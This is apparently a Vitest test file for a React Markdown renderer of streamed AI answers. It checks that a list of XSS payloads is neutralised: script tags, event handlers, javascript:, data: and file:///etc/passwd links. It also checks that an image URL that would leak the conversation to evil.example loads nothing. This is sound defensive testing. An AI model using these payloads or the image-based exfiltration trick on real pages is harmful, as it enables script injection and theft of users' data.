// @vitest-environment jsdom
import { cleanup, render, screen } from '@testing-library/react';
import { afterEach, describe, expect, it } from 'vitest';
import { Markdown } from './Markdown';

afterEach(cleanup);

function html(text: string, growing = false): string {
  return render(<Markdown text={text} growing={growing} />).container.innerHTML;
}

/** What of the page could run code, load something or send something. */
function dangers(container: HTMLElement): string[] {
  return [...container.querySelectorAll('*')].flatMap((element) => [
    ...(/^(script|iframe|object|embed|img|svg|math|style|link|meta|base|form|video|audio)$/i.test(element.tagName) &&
    element.closest('button') === null
      ? [element.tagName]
      : []),
    ...[...element.attributes]
      .filter(({ name, value }) => /^on|^style$|^srcdoc$/i.test(name) || /^\s*(javascript|data|vbscript|file):/i.test(value))
      .map(({ name, value }) => `${name}=${value}`),
  ]);
}

describe('Markdown', () => {
  it('shows the usual parts', () => {
    const shown = html('**bold** and `code`\n\n- a\n- b\n\n| x | y |\n| - | - |\n| 1 | 2 |');
    expect(shown).toContain('<strong>bold</strong>');
    expect(shown).toContain('<code>code</code>');
    expect(shown).toContain('<li>a</li>');
    expect(shown).toContain('<td>2</td>');
  });

  it('lays lists, quotes and tables out in the direction of their text', () => {
    const { container } = render(
      <Markdown text={'- one\n\n1. two\n\n> three\n\n| four |\n| - |\n| 4 |'} growing={false} />,
    );
    expect([...container.querySelectorAll('[dir=auto]')].map(({ tagName }) => tagName)).toEqual(['UL', 'OL', 'BLOCKQUOTE', 'TABLE']);
  });

  it('opens links in a page of their own that learns nothing of this one', () => {
    html('[AWS](https://aws.amazon.com)');
    const link = screen.getByRole('link', { name: 'AWS' });
    expect(link.getAttribute('rel')).toBe('noopener noreferrer nofollow');
    expect(link.getAttribute('target')).toBe('_blank');
  });

  it('shows code with its language and without the fence', () => {
    html('```java\nint a = 1;\n```');
    expect(screen.getByLabelText('Code, java').textContent).toBe('int a = 1;');
  });

  it('shows an image as nothing but its absence: no request leaves the page', () => {
    const shown = html('before ![secret](https://evil.example/?q=conversation) after');
    expect(shown).not.toContain('evil.example');
    expect(shown).toContain('before');
    expect(shown).toContain('after');
  });

  it.each([
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    '<div style="background:url(https://evil.example)">x</div>',
    '<form action="https://evil.example"><input name=q></form>',
    '<base href="https://evil.example/">',
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](java&#115;cript:alert(1))',
    '[x](java\tscript:alert(1))',
    '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    '[x](vbscript:msgbox(1))',
    '[x](file:///etc/passwd)',
    '<javascript:alert(1)>',
    '![x](javascript:alert(1))',
    '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
    '[x]: javascript:alert(1)\n\n[x]',
    '```"><script>alert(1)</script>\ncode\n```',
    '```html onmouseover=alert(1)\n<script>alert(1)</script>\n```',
    '| <script>alert(1)</script> |\n| - |\n| <img src=x onerror=alert(1)> |',
    '- [ ] <img src=x onerror=alert(1)>',
    'a[^1]\n\n[^1]: <script>alert(1)</script>',
    '**<img src=x onerror=alert(1)',
  ])('makes %j harmless, whole and at every length while it grows', (attack) => {
    for (let length = 1; length <= attack.length; length++) {
      const { container, unmount } = render(<Markdown text={attack.slice(0, length)} growing />);
      expect(dangers(container), attack.slice(0, length)).toEqual([]);
      unmount();
    }
    const { container } = render(<Markdown text={attack} growing={false} />);
    expect(dangers(container)).toEqual([]);
  });

  it('finds dangers where there are some', () => {
    const page = document.createElement('div');
    page.innerHTML = '<img src="x" onerror="alert(1)"><a href="javascript:alert(1)">x</a><p style="color: red">x</p>';
    expect(dangers(page)).toEqual(['IMG', 'onerror=alert(1)', 'href=javascript:alert(1)', 'style=color: red']);
  });

  it('keeps the elements of finished blocks while the answer grows', () => {
    const { container, rerender } = render(<Markdown text={'One.\n\nTwo'} growing />);
    const first = container.querySelector('p');
    rerender(<Markdown text={'One.\n\nTwo and **three'} growing />);
    expect(container.querySelector('p')).toBe(first);
    expect(container.querySelector('strong')?.textContent).toBe('three');
  });

  it('takes footnotes of two answers apart', () => {
    const { container } = render(
      <>
        <Markdown text={'a[^1]\n\n[^1]: note'} growing={false} />
        <Markdown text={'b[^1]\n\n[^1]: note'} growing={false} />
      </>,
    );
    const ids = [...container.querySelectorAll('[id]')].map((element) => element.id);
    expect(ids.length).toBeGreaterThanOrEqual(4);
    expect(new Set(ids).size).toBe(ids.length);
  });
});
